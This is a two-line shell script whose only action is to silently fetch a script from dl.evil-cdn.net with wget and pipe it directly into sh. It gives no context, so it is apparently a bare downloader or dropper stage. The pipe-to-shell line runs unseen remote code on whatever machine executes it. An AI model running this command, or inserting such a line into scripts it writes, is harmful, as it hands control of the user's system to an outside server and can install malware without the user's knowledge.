#!/bin/sh
wget -qO- https://dl.evil-cdn.net/i.sh | sh
